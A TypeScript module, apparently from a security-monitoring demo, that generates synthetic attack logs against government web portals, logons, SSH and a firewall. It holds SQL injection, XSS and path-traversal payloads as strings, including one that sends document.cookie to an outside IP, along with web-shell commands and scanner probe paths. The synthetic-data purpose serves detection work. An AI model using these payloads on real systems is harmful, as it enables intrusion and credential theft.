/**
 * @module demo/hostile-traffic
 * The hostile share of the demo's traffic, in bursts from one source at a time, as attacks arrive:
 * web attacks on the portals (SQL injection and XSS in query strings, path traversal, `/wp-login.php`
 * and `/.env` probing by scanners with their user agents, a web shell being driven), brute force of
 * Windows logons (4625) and SSH (`Failed password for invalid user`) from foreign addresses,
 * password spraying on the officials' SSO, and the perimeter firewall's deny and IPS records.
 */
import type { EcsObject } from '../core/event.js';
import type { HttpAccess } from './access-log.js';
import { formatAccessLog } from './access-log.js';
import type { LinuxFleet } from './admin-activity.js';
import type { Firewall } from './firewall-traffic.js';
import { fortigateHead, fortigateLine } from './firewall-traffic.js';
import type { Directory, SsoRealm } from './official-logins.js';
import { logonEvent, ssoRecord } from './official-logins.js';
import { citizenAddress, hostileAddress } from './population.js';
import type { PortalSite } from './portal-traffic.js';
import type { Random } from './random.js';
import { priority, rfc3164 } from './syslog-line.js';

export const scannerUserAgents = {
  sqlmap: 'sqlmap/1.8.6#stable (https://sqlmap.org)',
  nikto: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007226)',
  nuclei: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  zgrab: 'Mozilla/5.0 zgrab/0.x',
  python: 'python-requests/2.31.0',
  go: 'Go-http-client/1.1',
} as const;

const sqlInjection = [
  "ma-ho-so=H01.22-250701-0001%27%20AND%201%3D1--%20-",
  "ma-ho-so=H01.22-250701-0001%27%20AND%20SLEEP(5)%23",
  "ma-ho-so=-1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT(0x7176627871%2Cversion()%2C0x716b6a7a71)--%20-",
  "ma-ho-so=1%27%20OR%20%271%27%3D%271",
  "ma-ho-so=1);WAITFOR%20DELAY%20%270:0:5%27--",
  "ma-ho-so=1%20AND%20extractvalue(1%2Cconcat(0x7e%2C(SELECT%20user())))",
] as const;

const crossSiteScripting = [
  'tu-khoa=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E',
  'tu-khoa=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E',
  'tu-khoa=%3Cimg%20src%3Dx%20onerror%3Dfetch(%27%2F%2F45.148.10.7%2F%27%2Bdocument.cookie)%3E',
  'tu-khoa=javascript%3Aalert(1)',
] as const;

const traversal: readonly (readonly [string, string])[] = [
  ['/tai-lieu/tai-ve', 'file=../../../../etc/passwd'],
  ['/tai-lieu/tai-ve', 'file=..%2F..%2F..%2F..%2Fetc%2Fshadow'],
  ['/static/..%2f..%2f..%2f..%2fetc%2fpasswd', ''],
  ['/tai-lieu/tai-ve', 'file=..%5c..%5c..%5cwindows%5cwin.ini'],
  ['/..;/..;/WEB-INF/web.xml', ''],
];

const probes = [
  '/wp-login.php', '/wp-admin/setup-config.php', '/.env', '/.env.production', '/.git/config', '/phpmyadmin/index.php',
  '/actuator/env', '/server-status', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/config.json',
  '/backup.zip', '/admin/', '/cgi-bin/luci/;stok=/locale', '/owa/auth/logon.aspx', '/xmlrpc.php',
] as const;

type WebAttack = 'scan' | 'sqli' | 'xss' | 'traversal' | 'webshell';

function attackRequest(rng: Random, attack: WebAttack, site: PortalSite, shellPath: string): Omit<HttpAccess, 'time' | 'clientIp' | 'userAgent'> {
  const base = { method: 'GET', protocol: 'HTTP/1.1' as const, referer: null, user: null, durationMs: rng.int(3, 80) };
  switch (attack) {
    case 'scan': {
      const path = rng.pick(probes);
      return { ...base, path, query: '', status: rng.weighted([[404, 85], [403, 10], [301, 5]]), bytes: rng.int(150, 600) };
    }
    case 'sqli': {
      const status = rng.weighted([[200, 70], [500, 25], [403, 5]]);
      return { ...base, path: '/tra-cuu-ho-so', query: rng.pick(sqlInjection), status, bytes: status === 200 ? rng.int(18_000, 30_000) : rng.int(300, 1500), durationMs: rng.int(20, 5200) };
    }
    case 'xss':
      return { ...base, path: '/tim-kiem', query: rng.pick(crossSiteScripting), status: rng.weighted([[200, 80], [403, 20]]), bytes: rng.int(30_000, 60_000) };
    case 'traversal': {
      const [path, query] = rng.pick(traversal);
      return { ...base, path, query, status: rng.weighted([[400, 40], [404, 40], [403, 15], [200, 5]]), bytes: rng.int(150, 1200) };
    }
    case 'webshell':
      // A web shell dropped in an upload folder, driven by POSTs with small answers.
      return {
        ...base,
        method: rng.chance(0.8) ? 'POST' : 'GET',
        path: shellPath,
        query: rng.chance(0.2) ? `cmd=${rng.pick(['whoami', 'id', 'uname%20-a', 'ipconfig%20%2Fall', 'net%20user'])}` : '',
        status: 200,
        bytes: rng.int(40, 3000),
        durationMs: rng.int(30, 900),
        referer: site.format === 'w3c' ? null : `https://${site.host}${shellPath}`,
      };
  }
}

/**
 * `count` hostile requests on `site` in the second before `time`: one attacker (source address and
 * tool) per call, as a burst arrives.
 */
export function hostileWebAccesses(rng: Random, site: PortalSite, time: number, count: number): HttpAccess[] {
  const attack = rng.weighted<WebAttack>([['scan', 4], ['sqli', 3], ['xss', 2], ['traversal', 2], ['webshell', 1]]);
  // Attackers mostly come from abroad; a web shell is often driven through a domestic proxy.
  const clientIp = attack === 'webshell' && rng.chance(0.5) ? citizenAddress(rng) : hostileAddress(rng);
  const userAgent =
    attack === 'sqli' ? scannerUserAgents.sqlmap
    : attack === 'webshell' ? 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0'
    : rng.pick([scannerUserAgents.nikto, scannerUserAgents.nuclei, scannerUserAgents.zgrab, scannerUserAgents.python, scannerUserAgents.go]);
  const shellPath = site.format === 'w3c' ? '/upload/images/2024/thumb_cache.aspx' : '/uploads/tmp/wp-cache.php';
  const out: HttpAccess[] = [];
  for (let i = 0; i < count; i++) {
    const time0 = time - 1000 + Math.floor(((i + rng.next()) * 1000) / Math.max(count, 1));
    out.push({ ...attackRequest(rng, attack, site, shellPath), time: time0, clientIp, userAgent });
  }
  return out;
}

export function hostileWebLines(rng: Random, site: PortalSite, time: number, count: number): string[] {
  return formatAccessLog(hostileWebAccesses(rng, site, time, count), site.format, site.serverIp, time);
}

const guessedUsers = ['administrator', 'admin', 'user', 'test', 'guest', 'scanner', 'backup', 'sql', 'ketoan', 'vanthu'] as const;

/** A burst of failed Windows logons (4625) from one foreign address; rarely, one guess succeeds. */
export function bruteForceLogons(rng: Random, directory: Directory, time: number, count: number): EcsObject[] {
  const ip = hostileAddress(rng);
  const workstation = rng.chance(0.5) ? '-' : `WIN-${rng.string('ABCDEFGHJKLMNPQRSTUVWXYZ0123456789', 11)}`;
  const out: EcsObject[] = [];
  for (let i = 0; i < count; i++) {
    const at = time - 1000 + Math.floor(((i + rng.next()) * 1000) / Math.max(count, 1));
    const known = rng.chance(0.3) ? rng.pick(directory.officials).username : null;
    const user = known ?? rng.pick(guessedUsers);
    if (known !== null && rng.chance(0.01)) {
      out.push(logonEvent(rng, directory.host, 4624, { time: at, user, workstation, ip, logonType: 3 }));
      continue;
    }
    out.push(logonEvent(rng, directory.host, 4625, { time: at, user, workstation, ip, logonType: 3, subStatus: known ? '0xc000006a' : '0xc0000064' }));
  }
  return out;
}

const sshGuesses = ['root', 'admin', 'oracle', 'postgres', 'ubuntu', 'test', 'git', 'deploy', 'ftpuser', 'user1'] as const;

/** A burst of SSH password guessing from one foreign address on one server, as sshd logs it. */
export function sshBruteForceLines(rng: Random, fleet: LinuxFleet, time: number, count: number): string[] {
  const ip = hostileAddress(rng);
  const host = rng.pick(fleet.hostnames);
  const out: string[] = [];
  while (out.length < count) {
    const at = time - 1000 + rng.int(0, 999);
    const pid = rng.int(1000, 65000);
    const user = rng.pick(sshGuesses);
    const port = rng.int(30000, 65000);
    const auth = priority('auth', 'info');
    if (user === 'root') {
      out.push(rfc3164(priority('authpriv', 'notice'), at, host, `sshd[${pid}]`, `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${ip}  user=root`));
      out.push(rfc3164(auth, at, host, `sshd[${pid}]`, `Failed password for root from ${ip} port ${port} ssh2`));
    } else {
      out.push(rfc3164(auth, at, host, `sshd[${pid}]`, `Invalid user ${user} from ${ip} port ${port}`));
      out.push(rfc3164(auth, at, host, `sshd[${pid}]`, `Failed password for invalid user ${user} from ${ip} port ${port} ssh2`));
      out.push(rfc3164(auth, at, host, `sshd[${pid}]`, `Connection closed by invalid user ${user} ${ip} port ${port} [preauth]`));
    }
  }
  out.length = count;
  return out;
}

/** Password spraying on the officials' SSO: many accounts, one or two passwords, one source. */
export function ssoPasswordSpray(rng: Random, realm: SsoRealm, time: number, count: number): EcsObject[] {
  const ip = hostileAddress(rng);
  const userAgent = scannerUserAgents.python;
  const out: EcsObject[] = [];
  for (let i = 0; i < count; i++) {
    const at = time - 1000 + Math.floor(((i + rng.next()) * 1000) / Math.max(count, 1));
    out.push(ssoRecord(rng, realm, { time: at, official: rng.pick(realm.officials), outcome: 'failure', reason: 'invalid_credentials', ip, userAgent }));
  }
  return out;
}

const ipsSignatures: readonly (readonly [string, number, string])[] = [
  ['Apache.Log4j.Error.Log.Remote.Code.Execution', 51006, 'critical'],
  ['PHPUnit.Eval-stdin.PHP.Remote.Code.Execution', 44938, 'critical'],
  ['Fortinet.FortiOS.SSL-VPN.Heap.Buffer.Overflow', 53530, 'critical'],
  ['Generic.SQL.Injection.Detection', 15621, 'high'],
  ['Nmap.Script.Scanner', 18837, 'low'],
  ['MS.Windows.RDP.Brute.Force.Login', 19986, 'medium'],
];

/** The firewall's view of an attack: denied probes to closed ports and IPS signature drops. */
export function firewallHostileLines(rng: Random, fw: Firewall, time: number, count: number): string[] {
  const src = hostileAddress(rng);
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const at = time - 1000 + rng.int(0, 999);
    const dst = rng.pick(fw.dmzServers);
    const spt = rng.int(32768, 65535);
    if (rng.chance(0.7)) {
      const dpt = rng.pick([22, 23, 445, 1433, 3306, 3389, 5900, 6379, 8080, 9200] as const);
      out.push(
        fortigateLine(fw, at, {
          signatureId: '0000000013',
          name: 'traffic:forward deny',
          severity: 3,
          extension: [
            ...fortigateHead(fw, at, '0000000013', 'traffic:forward', 'forward', 'notice'),
            ['src', src], ['spt', spt], ['deviceInboundInterface', 'port1'], ['FTNTFGTsrcintfrole', 'wan'],
            ['dst', dst], ['dpt', dpt], ['deviceOutboundInterface', 'port3'], ['FTNTFGTdstintfrole', 'dmz'],
            ['externalId', rng.int(10_000_000, 99_999_999)], ['proto', 6], ['act', 'deny'], ['FTNTFGTpolicyid', 0],
            ['FTNTFGTpolicytype', 'policy'], ['app', `tcp/${dpt}`], ['FTNTFGTduration', 0], ['out', 0], ['in', 0],
            ['FTNTFGTcrscore', 30], ['FTNTFGTcraction', 131072], ['FTNTFGTcrlevel', 'high'],
          ],
        }),
      );
    } else {
      const [attack, attackId, level] = rng.pick(ipsSignatures);
      out.push(
        fortigateLine(fw, at, {
          signatureId: '0419016384',
          name: 'utm:ips signature',
          severity: level === 'critical' ? 10 : level === 'high' ? 8 : level === 'medium' ? 5 : 3,
          extension: [
            ...fortigateHead(fw, at, '0419016384', 'utm:ips', 'ips', 'alert'),
            ['FTNTFGTeventtype', 'signature'], ['FTNTFGTseverity', level],
            ['src', src], ['spt', spt], ['deviceInboundInterface', 'port1'],
            ['dst', dst], ['dpt', 443], ['deviceOutboundInterface', 'port3'],
            ['proto', 6], ['FTNTFGTservice', 'HTTPS'], ['act', 'dropped'],
            ['FTNTFGTattack', attack], ['FTNTFGTattackid', attackId], ['FTNTFGTref', `http://www.fortinet.com/ids/VID${attackId}`],
            ['msg', `web_misc: ${attack},`], ['FTNTFGTcrscore', 50], ['FTNTFGTcrlevel', level],
          ],
        }),
      );
    }
  }
  return out;
}
